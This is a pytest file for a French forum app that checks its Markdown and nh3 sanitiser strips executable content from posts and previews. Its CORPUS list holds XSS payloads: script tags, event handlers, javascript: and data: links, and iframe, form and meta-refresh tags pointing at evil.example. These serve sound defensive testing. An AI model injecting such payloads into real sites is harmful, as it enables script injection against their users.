"""What people write goes through the real pipeline (form → service → Markdown → nh3 → page) and nothing
executable survives: no script, no event handler, no javascript:/data: link, no SVG, no image, no style."""

import re
from html.parser import HTMLParser

import pytest

from practices.models import Post
from tests.utils import assert_no_inline_code, text

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="JaVaScRiPt:alert(1)">clic</a>',
    '<a href="&#106;avascript:alert(1)">clic</a>',
    "[clic](javascript:alert(1))",
    "[clic](  javascript:alert(1) )",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](javascript:alert(1))",
    '![x](https://evil.example/x.png" onerror="alert(1))',
    '[x](https://ok.example/ "titre" onclick=alert(1))',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<p style="background:url(javascript:alert(1))">stylé</p>',
    "<style>body{display:none}</style>",
    '<div onmouseover="alert(1)">survol</div>',
    '<a href="https://ok.example/" onclick="alert(1)">lien</a>',
    "<form action=https://evil.example/><button>envoyer</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "`<script>alert(1)</script>` et ```\n<script>alert(2)</script>\n```",
]

ALLOWED_TAGS = {
    "p", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "a", "blockquote", "code", "pre", "hr", "br",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
SAFE_SCHEMES = ("http://", "https://", "mailto:")


class Elements(HTMLParser):
    """Every element and attribute of a fragment, as a browser would parse it."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_nothing_executable(html):
    for tag, attrs in Elements(html).found:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name != "style", tag
            if name in {"href", "src"}:
                assert value.strip().lower().startswith(SAFE_SCHEMES), (tag, value)


def body_of(html):
    """The posts' bodies: the only place the written text lands."""
    return "".join(re.findall(r'<div class="prose post__body">(.*?)</div>\s*(?:<footer|\n)', html, re.S))


@pytest.mark.parametrize("payload", CORPUS)
def test_nothing_executable_survives_a_new_topic(client_for, network, payload):
    client = client_for("adviser")
    response = client.post(
        "/communaute/nouveau/", {"category": "accueil", "title": "Essai <b>titre</b>", "body": f"Avant {payload} après"}
    )
    assert response.status_code == 302
    post = Post.objects.get(topic__title="Essai <b>titre</b>")
    assert_nothing_executable(post.body_html)
    page = client.get(response["Location"]).content.decode()
    bodies = body_of(page)
    assert "Avant" in bodies
    assert_no_inline_code(page.replace(bodies, ""))  # the layout; the bodies are parsed below
    assert "<b>titre</b>" not in page  # the title is text, escaped
    assert_nothing_executable(bodies)


@pytest.mark.parametrize("payload", CORPUS[:12])
def test_nothing_executable_survives_a_preview(client_for, network, payload):
    html = (
        client_for("adviser")
        .post("/communaute/nouveau/", {"category": "accueil", "title": "Essai", "body": payload, "preview": "1"})
        .content.decode()
    )
    preview = html[html.index("Aperçu") :]
    assert_nothing_executable(preview.split('<div class="prose post__body">')[1].split("</section>")[0])


def test_safe_links_stay_and_open_nothing_else(client_for, network):
    response = client_for("adviser").post(
        "/communaute/nouveau/",
        {"category": "accueil", "title": "Liens", "body": "[Onisep](https://www.onisep.fr/) et <https://www.cidj.com>"},
    )
    html = text(client_for("referent").get(response["Location"]))
    assert '<a href="https://www.onisep.fr/" rel="noopener noreferrer">Onisep</a>' in html
